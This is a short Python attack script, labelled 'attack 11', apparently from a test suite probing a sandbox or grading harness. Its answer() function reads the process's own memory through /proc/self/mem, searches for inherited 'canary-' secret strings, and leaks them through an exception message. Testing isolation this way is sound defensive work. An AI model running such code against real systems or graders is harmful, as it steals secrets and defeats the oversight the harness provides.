"""Scans its own memory for what the process that forked it may have known (attack 11)."""
import re
def answer(*args, **kwargs):
    found = []
    for line in open("/proc/self/maps"):
        if "rw-p" in line and "[stack]" not in line:
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            if high - low < 2**27:
                with open("/proc/self/mem", "rb") as memory:
                    memory.seek(low)
                    found += re.findall(rb"can" + rb"ary-[0-9a-f]{8,}", memory.read(high - low))
    raise RuntimeError(repr(found)[:400])
